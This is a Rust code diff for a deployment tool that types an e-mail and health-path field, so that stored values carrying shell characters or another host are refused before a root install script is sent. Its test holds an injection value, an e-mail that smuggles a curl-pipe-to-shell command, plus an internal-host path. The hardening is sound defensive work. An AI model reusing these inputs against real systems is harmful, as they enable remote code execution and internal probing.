@@ -24,10 +24,11 @@ use crate::ports::{
 };
 use async_trait::async_trait;
 use lockstep_doctor::{parse_url, Target};
+use lockstep_domain::contact::Email;
 use lockstep_domain::doctor::{Finding, Report, Verdict};
 use lockstep_domain::freepath::site_for;
 use lockstep_domain::nginx::{install_script, Os};
-use lockstep_domain::{msg, DomainName, Message, Region, StepDetail, StepKind, UserError};
+use lockstep_domain::{msg, DomainName, HealthPath, Message, Region, StepDetail, StepKind, UserError};
 use serde::{Deserialize, Serialize};
 use serde_json::json;
 use std::net::Ipv4Addr;
@@ -45,7 +46,9 @@ pub const STEPS: [StepKind; 5] = [
 ];
 
 /// What a free-path run acts on, fixed when it starts (from the project, its name plan and the
-/// team's choices).
+/// team's choices). The e-mail and the health path are typed: the first goes into the script the
+/// instance runs as root, the second into a request lockstep makes; both are stored as the
+/// plain strings they always were (see [`decode_input`] for old values that no longer parse).
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct NginxInput {
     pub region: Region,
@@ -54,22 +57,35 @@ pub struct NginxInput {
     pub instance_id: Option<String>,
     pub public_ip: Ipv4Addr,
     pub app_port: u16,
-    pub health_path: String,
+    pub health_path: HealthPath,
     pub api: DomainName,
     /// The hosted zone of the project's own domain; None for a nip.io / sslip.io name.
     pub zone_id: Option<String>,
     pub os: Os,
     pub staging: bool,
-    pub email: String,
+    pub email: Email,
     /// Where the outside checks connect (80/443; a lab serves elsewhere).
     pub http_port: u16,
     pub https_port: u16,
 }
 
 impl NginxInput {
-    /// The script the instance runs (the same text the page shows).
-    pub fn script(&self) -> String {
-        install_script(self.os, &site_for(&self.api, self.app_port), &self.email, self.staging)
+    /// The script the instance runs (the same text the page shows); refused for a name nginx
+    /// and certbot cannot serve.
+    pub fn script(&self) -> Result<String, StepError> {
+        let site = site_for(&self.api, self.app_port).map_err(|m| {
+            StepError::Fatal(UserError {
+                ko: lockstep_domain::ko(
+                    format!("{}에 대한 nginx 사이트를 만들 수 없습니다.", self.api),
+                    m.ko,
+                    "프로젝트의 이름 설정에서 API 이름을 바꾼 뒤 무료 경로를 다시 시작하세요.",
+                ),
+                what: format!("lockstep cannot write the nginx site for {}.", self.api),
+                why: m.en,
+                fix: "Change the API name in the project's names, then start the free path again.".into(),
+            })
+        })?;
+        Ok(install_script(self.os, &site, &self.email, self.staging))
     }
 
     fn target(&self, expect: Vec<String>) -> Result<Target, StepError> {
@@ -79,7 +95,7 @@ impl NginxInput {
         let mut t = Target::new(url);
         t.http_port = self.http_port;
         t.https_port = self.https_port;
-        t.health_path = Some(self.health_path.clone());
+        t.health_path = Some(self.health_path.to_string());
         t.app_port = Some(self.app_port);
         t.issuers = vec!["letsencrypt.org".into()];
         t.expect = expect;
@@ -112,7 +128,63 @@ impl NginxDeps {
 }
 
 fn input(ctx: &StepCtx) -> Result<NginxInput, StepError> {
-    serde_json::from_value(ctx.input().clone()).map_err(|e| StepError::Store(format!("nginx run input: {e}")))
+    decode_input(ctx.input())
+}
+
+/// The two stored fields that were plain strings before they were typed.
+#[derive(Deserialize)]
+struct StoredStrings {
+    #[serde(default)]
+    email: Option<String>,
+    #[serde(default)]
+    health_path: Option<String>,
+}
+
+/// The run's input. A run started before the e-mail and the health path were typed may hold a
+/// value that no longer parses (an e-mail with shell characters, a path such as
+/// `//10.0.0.5:9200/_cat` that reaches another host): such a run stops here with the field's own
+/// message, and nothing is sent to the instance. Any other decode error is a bug in lockstep.
+pub fn decode_input(v: &serde_json::Value) -> Result<NginxInput, StepError> {
+    let err = match serde_json::from_value::<NginxInput>(v.clone()) {
+        Ok(i) => return Ok(i),
+        Err(e) => e,
+    };
+    let stored = serde_json::from_value::<StoredStrings>(v.clone()).ok();
+    let refused = stored.and_then(|s| {
+        let email = s.email.and_then(|e| Email::parse(&e).err()).map(|m| (m, "e-mail address", "이메일 주소"));
+        email.or_else(|| {
+            s.health_path.and_then(|p| HealthPath::parse(&p).err()).map(|m| (m, "health path", "상태 확인 경로"))
+        })
+    });
+    match refused {
+        Some((m, what, what_ko)) => Err(StepError::Fatal(UserError {
+            ko: lockstep_domain::ko(
+                format!(
+                    "이 실행에 저장된 {what_ko}를 더 이상 사용할 수 없어서, 인스턴스에는 아무것도 보내지 않았습니다."
+                ),
+                m.ko,
+                format!("프로젝트(또는 무료 경로 양식)에서 {what_ko}를 고친 뒤 무료 경로를 다시 시작하세요."),
+            ),
+            what: format!(
+                "The {what} stored with this run is no longer accepted, so nothing was sent to the instance."
+            ),
+            why: m.en,
+            fix: format!("Correct the {what} in the project (or the free-path form), then start the free path again."),
+        })),
+        None => {
+            tracing::error!(error = %err, "free-path run input does not decode");
+            Err(StepError::Fatal(UserError {
+            ko: lockstep_domain::ko(
+                "lockstep이 이 실행의 설정을 읽을 수 없습니다.",
+                "저장된 입력이 이 버전의 lockstep이 기대하는 형식과 다릅니다(lockstep의 버그입니다).",
+                "무료 경로를 다시 시작하세요. 계속되면 서버 로그와 함께 lockstep 관리자에게 알려 주세요.",
+            ),
+            what: "lockstep cannot read this run's settings.".into(),
+            why: "The stored input is not in the form this version of lockstep expects (a bug in lockstep).".into(),
+            fix: "Start the free path again; if it happens again, tell the lockstep admin (the server log has the detail).".into(),
+        }))
+        }
+    }
 }
 
 /// Ports that must not be open to 0.0.0.0/0, with what listens there.
@@ -527,7 +599,7 @@ impl StepHandler for Install {
         let command_id = match found {
             Some(c) => c,
             None => {
-                self.0.commands.send(&inp.region, &id, &inp.script(), SCRIPT_TIMEOUT_SECS, &comment).await.map_err(
+                self.0.commands.send(&inp.region, &id, &inp.script()?, SCRIPT_TIMEOUT_SECS, &comment).await.map_err(
                     |e| {
                         port_error(
                             &msg("sending the script through SSM Run Command", "SSM Run Command로 스크립트 보내기"),
@@ -720,6 +792,58 @@ mod tests {
             cidrs: vec![cidr.into()],
             source_groups: vec![],
         }
+    }
+
+    fn stored_input() -> serde_json::Value {
+        let input = NginxInput {
+            region: Region::parse("ap-northeast-2").unwrap(),
+            instance_id: Some("i-0123456789abcdef0".into()),
+            public_ip: Ipv4Addr::new(54, 180, 1, 2),
+            app_port: 8000,
+            health_path: HealthPath::parse("/health").unwrap(),
+            api: DomainName::parse("api.team.com").unwrap(),
+            zone_id: None,
+            os: Os::Ubuntu,
+            staging: false,
+            email: Email::parse("kim@example.com").unwrap(),
+            http_port: 80,
+            https_port: 443,
+        };
+        serde_json::to_value(&input).unwrap()
+    }
+
+    fn fatal(r: Result<NginxInput, StepError>) -> UserError {
+        match r {
+            Err(StepError::Fatal(e)) => e,
+            other => panic!("expected a fatal error, got {other:?}"),
+        }
+    }
+
+    /// Issue 19: a run stored before the e-mail was typed, holding the finding's address, stops
+    /// with the field's message instead of sending `certbot -m a@b.co;curl...` to the instance.
+    #[test]
+    fn a_stored_run_with_an_unsafe_email_or_health_path_fails_clearly() {
+        let good = stored_input();
+        assert_eq!(good["email"], "kim@example.com", "stored as the plain string, as before");
+        let inp = decode_input(&good).unwrap();
+        assert!(inp.script().unwrap().contains("-m 'kim@example.com' --agree-tos"));
+
+        let mut old = good.clone();
+        old["email"] = "a@b.co;curl${IFS}x.sh|sh".into();
+        let e = fatal(decode_input(&old));
+        assert!(e.what.contains("e-mail address stored with this run") && e.what.contains("nothing was sent"), "{e:?}");
+        assert!(e.why.contains("cannot contain \";\""), "{e:?}");
+        let ko = e.ko.as_deref().expect("Korean");
+        assert!(ko.what.contains("이메일 주소") && ko.why.contains("이메일 주소에는"), "{e:?}");
+
+        let mut old = good.clone();
+        old["health_path"] = "//10.0.0.5:9200/_cat".into();
+        let e = fatal(decode_input(&old));
+        assert!(e.what.contains("health path") && e.why.contains("two slashes"), "{e:?}");
+
+        let mut broken = good;
+        broken["os"] = "windows".into();
+        assert!(fatal(decode_input(&broken)).what.contains("cannot read this run's settings"));
     }
 
     #[test]
